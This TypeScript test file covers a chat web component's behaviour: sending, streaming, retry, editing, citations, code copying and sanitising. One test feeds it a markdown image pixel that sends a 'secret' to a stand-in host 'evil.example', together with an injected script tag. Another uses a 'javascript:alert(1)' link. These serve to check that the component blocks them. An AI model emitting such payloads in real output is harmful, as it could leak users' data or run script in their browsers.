import type { AiRunner } from '@inlay/runtime/ai';
import { createApp } from '@inlay/runtime/app';
import { idleQueryViewState } from '@inlay/runtime/component';
import { parseDocument } from '@inlay/runtime/document';
import { expect, fixture, html, nextFrame } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import { waitUntil } from '../element/wait-until.fixture.ts';
import type { InlayApp } from '../app-view/app-view.ts';
import '../app-view/register.ts';
import { definitions } from '../definitions.ts';
import '../register.ts';
import type { InlayChat } from './chat.ts';

const question = { role: 'user', content: 'Why?' };
const answer = { role: 'assistant', content: 'It is **slow** [1].\n\n```sql\nselect 1\n```', citations: [{ title: 'Notes', url: 'https://example.com/notes' }] };

const inside = (element: InlayChat, selector: string): HTMLElement => element.shadowRoot!.querySelector<HTMLElement>(selector)!;
const buttonNamed = (element: InlayChat, words: string): HTMLButtonElement | undefined => [...element.shadowRoot!.querySelectorAll('button')].find((button) => button.textContent?.trim() === words);
const field = (element: InlayChat): HTMLTextAreaElement => inside(element, '.chat > .composer .field') as HTMLTextAreaElement;

async function show(messages: readonly unknown[] = []): Promise<InlayChat> {
  const element = await fixture<InlayChat>(html`<inlay-chat .messages=${messages}></inlay-chat>`);
  await element.updateComplete;
  return element;
}

/** Shows an answer under way, by the properties of a chat without a query. */
async function stream(element: InlayChat, text: string): Promise<void> {
  element.loading = true;
  element.answer = text;
  await element.updateComplete;
}

describe('<inlay-chat>', () => {
  it('is accessible empty, with a conversation, while an answer comes, and when it failed', async () => {
    await expect(await show()).to.be.accessible();
    const element = await show([question, answer]);
    await expect(element).to.be.accessible();
    await stream(element, 'So');
    await expect(element).to.be.accessible();
    element.loading = false;
    element.error = 'It broke.';
    await element.updateComplete;
    await expect(element).to.be.accessible();
  });

  it('sends with Enter and begins a new line with Shift+Enter', async () => {
    const element = await show();
    const sent: unknown[] = [];
    element.addEventListener('send', (event) => sent.push((event as CustomEvent).detail));
    element.focus();
    await sendKeys({ press: 'Enter' });
    await sendKeys({ type: 'One' });
    await sendKeys({ down: 'Shift' });
    await sendKeys({ press: 'Enter' });
    await sendKeys({ up: 'Shift' });
    await sendKeys({ type: 'two' });
    expect([element.value, sent]).to.deep.equal(['One\ntwo', []]);
    await sendKeys({ press: 'Enter' });
    const messages = [{ role: 'user', content: 'One\ntwo' }];
    expect(sent).to.deep.equal([{ messages, message: 'One\ntwo', value: '' }]);
    expect([element.messages, element.value]).to.deep.equal([messages, '']);
  });

  it('shows an answer as it comes, formats again only what is new, and makes it a message when it ends', async () => {
    const element = await show([question, answer, question]);
    await stream(element, 'First paragraph.\n\nSecond');
    const settled = inside(element, '.message:last-child .markdown p');
    const changed = new Set<Node>();
    const observer = new MutationObserver((records) => records.forEach(({ target }) => changed.add(target)));
    observer.observe(element.shadowRoot!, { childList: true, characterData: true, subtree: true });
    await stream(element, 'First paragraph.\n\nSecond paragraph.');
    observer.takeRecords().forEach(({ target }) => changed.add(target));
    const growing = inside(element, '.message:last-child .markdown');
    expect([...changed]).to.deep.equal([growing]);
    expect(growing.querySelector('p')).to.equal(settled);
    let changes = 0;
    element.addEventListener('change', () => (changes += 1));
    element.loading = false;
    await element.updateComplete;
    expect([element.messages.at(-1), changes]).to.deep.equal([{ role: 'assistant', content: 'First paragraph.\n\nSecond paragraph.' }, 1]);
    expect(inside(element, '.message:last-child .markdown')).to.equal(growing);
  });

  it('stops, and keeps what has come as an unfinished answer', async () => {
    const element = await show([question]);
    element.addEventListener('stop', () => {
      element.loading = false;
      element.answer = 'an older answer';
    });
    await stream(element, 'It is');
    buttonNamed(element, 'Stop')!.click();
    await element.updateComplete;
    expect(element.messages.at(-1)).to.deep.equal({ role: 'assistant', content: 'It is', unfinished: true });
    expect(element.shadowRoot!.textContent).to.contain('Unfinished answer');
    expect(element.shadowRoot!.activeElement).to.equal(field(element));
  });

  it('asks once more, without the answer that was there', async () => {
    const element = await show([question, answer]);
    let sent = 0;
    element.addEventListener('send', () => (sent += 1));
    buttonNamed(element, 'Retry')!.click();
    expect([element.messages, sent]).to.deep.equal([[question], 1]);
  });

  it('lets the last question be changed and sent again, or left as it was', async () => {
    const element = await show([{ role: 'user', content: 'First' }, answer, question, answer]);
    const edit = async (): Promise<void> => {
      buttonNamed(element, 'Edit')!.click();
      await element.updateComplete;
    };
    await edit();
    expect(element.shadowRoot!.activeElement).to.equal(inside(element, '.log .field'));
    await sendKeys({ type: 'x' });
    await sendKeys({ press: 'Escape' });
    await element.updateComplete;
    expect([element.messages.length, element.shadowRoot!.activeElement === field(element)]).to.deep.equal([4, true]);
    await edit();
    await sendKeys({ press: 'End' });
    await sendKeys({ type: ' now' });
    await sendKeys({ press: 'Enter' });
    expect(element.messages.slice(2)).to.deep.equal([{ role: 'user', content: 'Why? now' }]);
    expect(element.value).to.equal('');
  });

  it('links its sources by small numbers, and nowhere else', async () => {
    const element = await show([question, { ...answer, content: 'So [1], not [2] nor `[1]`.' }, question, { role: 'assistant', content: 'No [1].', citations: [{ title: 'Bad', url: 'javascript:alert(1)' }] }]);
    const marks = [...element.shadowRoot!.querySelectorAll<HTMLAnchorElement>('.mark')];
    expect(marks.map(({ href, textContent }) => [href, textContent])).to.deep.equal([['https://example.com/notes', '1']]);
    expect([...element.shadowRoot!.querySelectorAll('.citations li')].map(({ textContent }) => textContent)).to.deep.equal(['Notes', 'Bad']);
    expect(element.shadowRoot!.querySelector('[href^="javascript:" i]')).to.equal(null);
  });

  it('copies a block of code', async () => {
    const element = await show([question, answer]);
    const copied: string[] = [];
    const write = navigator.clipboard.writeText;
    navigator.clipboard.writeText = (text) => (copied.push(text), Promise.resolve());
    const button = inside(element, '.code .copy');
    button.click();
    await waitUntil(() => button.textContent === 'Copied');
    navigator.clipboard.writeText = write;
    expect(copied).to.deep.equal(['select 1\n']);
  });

  it('runs and loads nothing that a model writes, and shows a person\'s words as they are', async () => {
    const element = await show([{ role: 'user', content: '<b>x</b>' }, { role: 'assistant', content: '![pixel](https://evil.example/?secret)<script>window.hackedByChat = 1</script>' }]);
    expect(element.shadowRoot!.querySelectorAll('img, script')).to.have.length(0);
    expect(inside(element, '.markdown a').textContent).to.equal('pixel');
    expect(inside(element, '.bubble').textContent).to.equal('<b>x</b>');
  });

  it('takes any messages and never throws', async () => {
    const element = await show();
    for (const messages of [null, 'x', [null, 3, {}, { role: 'robot' }, { role: 'user' }, { role: 'assistant', content: [{ type: 'text', text: 'parts' }] }]]) {
      element.messages = messages as unknown as unknown[];
      await element.updateComplete;
    }
    expect(inside(element, '.markdown').textContent?.trim()).to.equal('parts');
  });

  it('keeps an answer that ended while it was off the page, and takes no older one for it', async () => {
    const back = async (messages: readonly unknown[]): Promise<InlayChat> => fixture<InlayChat>(html`<inlay-chat query="ask" .messages=${messages} .state=${{ ...idleQueryViewState, status: 'success', text: 'Yes.' }}></inlay-chat>`);
    expect((await back([question])).messages).to.deep.equal([question, { role: 'assistant', content: 'Yes.' }]);
    expect((await back([question, answer])).messages).to.deep.equal([question, answer]);
    expect((await back([])).messages).to.deep.equal([]);
  });

  it('says which options were dropped, and why', async () => {
    const warnings = [{ option: 'temperature', reason: 'this model takes only its own default', said: { text: 'this model takes only its own default', values: {} } }];
    const element = await fixture<InlayChat>(html`<inlay-chat query="ask" lang="de" .messages=${[question, answer]} .state=${{ ...idleQueryViewState, status: 'success', text: answer.content, warnings }}></inlay-chat>`);
    await waitUntil(() => inside(element, '.chat > .meta').textContent === 'temperature dieses Modell nimmt nur seinen eigenen Standardwert');
    expect(inside(element, '.chat > .meta del').textContent).to.equal('temperature');
  });

  it('shows the end of a long conversation, and says what it leaves out', async () => {
    const element = await show(Array.from({ length: 250 }, () => question));
    expect([element.shadowRoot!.querySelectorAll('.message').length, inside(element, '.log .meta').textContent]).to.deep.equal([200, 'Earlier messages are not shown: 50.']);
  });

  it('stays at the end while an answer grows, and where the person scrolled to', async () => {
    const element = await show(Array.from({ length: 30 }, () => [question, answer]).flat());
    const log = inside(element, '.log');
    const distance = (): number => log.scrollHeight - log.scrollTop - log.clientHeight;
    await nextFrame();
    expect(distance()).to.be.lessThan(2);
    log.scrollTop = 0;
    await new Promise((resolve) => log.addEventListener('scroll', resolve, { once: true }));
    await stream(element, 'more');
    await nextFrame();
    expect(log.scrollTop).to.equal(0);
  });

  it('lays out a long answer in boxes, of which only the last grows', async () => {
    const element = await show([question]);
    for (let paragraphs = 1; paragraphs <= 150; paragraphs += 1) await stream(element, Array.from({ length: paragraphs }, (_, index) => `Paragraph ${index}.`).join('\n\n'));
    const content = inside(element, '.markdown');
    expect([...content.querySelectorAll('p')].map((paragraph) => paragraph.textContent)).to.deep.equal(Array.from({ length: 150 }, (_, index) => `Paragraph ${index}.`));
    expect(content.childElementCount).to.be.lessThan(40);
    expect(getComputedStyle(content.querySelectorAll('p')[40]!).marginBlockEnd).to.equal(getComputedStyle(content.querySelectorAll('p')[5]!).marginBlockEnd);
  });
});

describe('<inlay-chat> in an app', () => {
  const asked: string[] = [];
  const shout: AiRunner = {
    async *run({ options: { prompt } }) {
      asked.push(prompt);
      yield { type: 'start', source: { resource: 'r', origin: 'demo', model: 'm', label: 'a demo' } };
      if (prompt === 'break') yield { type: 'error', error: { kind: 'server', message: 'It broke', hint: null, status: 500, retryAfterSeconds: null } };
      yield { type: 'text', text: prompt.toUpperCase() };
      yield { type: 'finish', reason: 'stop' };
    },
  };

  it('asks the query that it names, with the conversation, and keeps the answer in it', async () => {
    const { document, problems } = parseDocument({
      inlay: 1,
      pages: { main: {} },
      components: { talk: { parent: 'main', order: 'a0', type: 'chat', props: { query: 'ask' } } },
      queries: { ask: { resource: 'r', action: 'generateText', run: 'manual', options: { prompt: '<< talk.message >>' } } },
    }, { components: definitions });
    expect(problems).to.deep.equal([]);
    const app = createApp(document!, { components: definitions, resources: shout });
    const view = await fixture<InlayApp>(html`<inlay-app .app=${app}></inlay-app>`);
    await view.updateComplete;
    const element = view.shadowRoot!.querySelector('inlay-chat')!;
    await element.updateComplete;
    element.focus();
    for (const words of ['hello', 'again', 'break']) {
      await sendKeys({ type: words });
      await sendKeys({ press: 'Enter' });
      await waitUntil(() => asked.at(-1) === words && app.evaluate('<< ask.isFetching >>') === false && app.evaluate('<< talk.messages.length >>') as number > 0);
      await element.updateComplete;
    }
    expect(app.evaluate('<< talk.messages >>')).to.deep.equal([
      { role: 'user', content: 'hello' }, { role: 'assistant', content: 'HELLO', note: 'a demo' },
      { role: 'user', content: 'again' }, { role: 'assistant', content: 'AGAIN', note: 'a demo' },
      { role: 'user', content: 'break' },
    ]);
    expect(element.shadowRoot!.querySelector('[role=alert]')?.textContent).to.contain('It broke');
    expect(element.state).not.to.equal(idleQueryViewState);
    app.get('talk')!.call('clear', []);
    await element.updateComplete;
    expect(element.messages).to.deep.equal([]);
    app.dispose();
  });
});
